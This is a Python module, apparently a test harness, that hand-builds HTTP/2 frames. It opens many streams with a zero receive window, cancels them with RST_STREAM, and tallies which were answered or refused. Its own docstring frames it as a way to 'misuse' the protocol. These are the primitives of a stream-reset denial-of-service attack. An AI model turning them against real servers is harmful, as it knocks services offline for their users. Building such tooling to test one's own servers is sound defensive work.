"""As much of HTTP/2 (RFC 9113) as it takes to misuse it."""
import socket, struct, time

HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
INITIAL_WINDOW, CANCEL = 4, 8
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def text(value):
    """A string of HPACK (RFC 7541 §5): its length, seven bits of it and then the rest, seven bits a byte."""
    rest, length = len(value) - 127, bytes([min(len(value), 127)])
    while rest >= 0:
        length += bytes([rest % 128 + (128 if rest >= 128 else 0)])
        rest = rest // 128 if rest >= 128 else -1
    return length + value.encode()


def head(path, method="GET", token=None):
    """Method and https by their index, the rest as it is, without a table."""
    named = {"GET": b"\x82", "POST": b"\x83"}[method] + b"\x87\x04" + text(path) + b"\x01" + text("localhost")
    return named + (b"\x0f\x08" + text(f"Bearer {token}") if token else b"")


class Streams:
    """A connection of which no body is read: its window is 0."""

    def __init__(self, peer):
        self.peer, self.last, self.rest, self.closed = peer, -1, b"", False
        settings = struct.pack(">HI", INITIAL_WINDOW, 0)
        peer.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def opened(self, head, ends=True):
        """The bytes that open the next stream, and its number."""
        self.last += 2
        return frame(HEADERS, END_HEADERS | END_STREAM * ends, self.last, head), self.last

    def reset(self, stream):
        return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))

    def answers(self, count, seconds):
        """Whether they were 200, of so many streams that were answered or refused; fewer when the time is over or all was
        closed."""
        found, end = {}, time.monotonic() + seconds
        while len(found) < count and not self.closed and time.monotonic() < end:
            self.peer.settimeout(max(0.01, end - time.monotonic()))
            try:
                piece = self.peer.recv(1 << 16)
            except socket.timeout:
                break
            self.rest, self.closed = self.rest + piece, not piece
            while len(self.rest) >= 9 and len(self.rest) >= 9 + (length := int.from_bytes(self.rest[:3], "big")):
                kind, stream = self.rest[3], int.from_bytes(self.rest[5:9], "big")
                if kind == HEADERS:
                    # 200 is in the table of HPACK itself.
                    found.setdefault(stream, self.rest[9:10] == b"\x88")
                elif kind == RST_STREAM:
                    found.setdefault(stream, False)
                self.closed = self.closed or kind == GOAWAY
                self.rest = self.rest[9 + length:]
        return list(found.values())
